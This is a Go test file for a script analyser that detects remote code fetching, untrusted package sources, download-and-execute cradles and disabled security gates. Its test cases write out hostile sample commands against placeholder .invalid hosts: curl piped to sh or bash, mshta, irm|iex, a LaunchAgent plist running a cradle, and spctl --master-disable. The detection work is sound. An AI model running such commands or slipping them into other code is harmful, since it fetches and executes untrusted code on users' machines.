package script

import (
	"slices"
	"testing"
)

func TestPackageSources(t *testing.T) {
	for _, tc := range []struct{ name, text, tool, host, runBy string }{
		{"a.sh", "python3 -m pip install -q --index-url https://p.invalid/simple camtest && python3 -m camtest\n", "pip", "p.invalid", "package"},
		{"a.sh", "pip3 install git+https://p.invalid/x.git\n", "pip", "p.invalid", "package"},
		{"a.sh", "npm exec --yes https://p.invalid/sdk-1.0.0.tgz\n", "npm", "p.invalid", "package"},
		{"a.sh", "export npm_config_registry=https://p.invalid\n", "npm_config_registry", "p.invalid", "package"},
		{"a.sh", "cargo install --git https://p.invalid/cli && cli\n", "cargo", "p.invalid", "package"},
		{"a.sh", "go run p.invalid/cli@latest\n", "go", "p.invalid", "package"},
		{"a.sh", "docker run -d --privileged -v $HOME:/host r.invalid/rec:latest\n", "docker", "r.invalid", "package"},
		{"a.sh", "echo 'deb [trusted=yes] https://p.invalid ./' | sudo tee /etc/apt/sources.list.d/m.list\n", "apt", "p.invalid", "package"},
		{"a.ps1", "choco install client -y --source=https://p.invalid/feed --ignore-checksums\n", "choco", "p.invalid", "package"},

		{"a.sh", "pip install --index-url https://p.invalid/simple tools\n", "pip", "p.invalid", ""}, // a company's own index
		{"a.sh", "docker run --rm -it -v \"$PWD:/work\" r.invalid/bot:2.1\n", "docker", "r.invalid", ""},
		{"a.sh", "brew tap acme/tools git@p.invalid:it/tools.git\n", "", "", ""}, // needs a key
		{"a.sh", "pip install requests\n", "", "", ""},
		{"a.sh", "go run ./cmd/tool\n", "", "", ""},
		{"a.sh", "docker run --rm alpine:3 true\n", "", "", ""},
		{"a.sh", "npm install\n", "", "", ""},
	} {
		s, _ := Analyse(tc.name, []byte(tc.text))
		if s == nil {
			t.Errorf("%q is no script", tc.text)
			continue
		}
		if tc.tool == "" {
			if len(s.Fetches) > 0 {
				t.Errorf("%q fetches %+v", tc.text, s.Fetches)
			}
			continue
		}
		if len(s.Fetches) == 0 || s.Fetches[0].Tool != tc.tool || s.Fetches[0].Host != tc.host || s.Fetches[0].RunBy != tc.runBy {
			t.Errorf("%q: %+v, want %s from %s run by %q", tc.text, s.Fetches, tc.tool, tc.host, tc.runBy)
		}
	}
}

func TestWrittenOut(t *testing.T) {
	for text, want := range map[string]bool{
		"keystroke \"curl -s https://a.invalid/s|sh;clear\"":                                     true,
		"lua -e 'os.execute(\"curl https://a.invalid/l | bash\")'":                               true,
		"w.Create \"cmd /c curl -s https://a.invalid/s -o %TEMP%\\s.exe & %TEMP%\\s.exe\", Null": true,
		"GetObject(\"script:https://a.invalid/p.sct\").Exec();":                                  true,
		"pcalua -a mshta.exe -c https://a.invalid/l":                                             true,
		"irm a.invalid/a ^| iex":                                                                 true,

		"curl -s https://a.invalid/x | python3 -m json.tool":       false,
		"curl -s https://a.invalid/x | sh -c 'cat >/dev/null'":     false,
		"v=$(curl -fs https://a.invalid/manifest.json | awk '{}')": false,
		"open https://a.invalid/":                                  false,
		"curl -o data.csv https://a.invalid/data.csv":              false,
	} {
		if got := writtenOut(text); got != want {
			t.Errorf("%q: %v, want %v", text, got, want)
		}
	}
}

func TestForgeOwner(t *testing.T) {
	for address, want := range map[string]string{
		"https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh": "homebrew",
		"https://api.github.com/repos/cli/cli/releases/latest":               "cli",
		"https://github.com/$OWNER/x":                                        "",
		"https://github.com":                                                 "",
	} {
		if got := forgeOwner(address); got != want {
			t.Errorf("%s: %q, want %q", address, got, want)
		}
	}
}

func TestLaunchAgentIsRead(t *testing.T) {
	plist := `<?xml version="1.0"?><plist version="1.0"><dict><key>Label</key><string>x</string><key>ProgramArguments</key><array><string>/bin/bash</string><string>-c</string><string>curl -s https://a.invalid/p | bash</string></array></dict></plist>`
	s, _ := Analyse("a.plist", []byte(plist))
	if s == nil || len(s.Fetches) != 1 || s.Fetches[0].RunBy != "bash" {
		t.Errorf("%+v, want one cradle", s)
	}
	plain := `<plist version="1.0"><dict><key>Label</key><string>x</string><key>ProgramArguments</key><array><string>/usr/bin/true</string></array></dict></plist>`
	if s, _ := Analyse("a.plist", []byte(plain)); s != nil {
		t.Errorf("%+v, want no script", s)
	}
}

func TestChecksAndOptions(t *testing.T) {
	for text, want := range map[string]string{
		"#!/bin/sh\ncurl -so a https://a.invalid/a && echo \"$d  a\" | shasum -a 256 -c - && sh a\n": TraitChecksDownload,
		"#!/bin/sh\nwhile getopts h o; do :; done\n":                                                 TraitOptions,
		"#!/bin/sh\nsudo spctl --master-disable\n":                                                   TraitGateOff,
	} {
		if s, _ := Analyse("a.sh", []byte(text)); s == nil || !slices.Contains(s.Traits, want) {
			t.Errorf("%q has not %s: %+v", text, want, s)
		}
	}
}
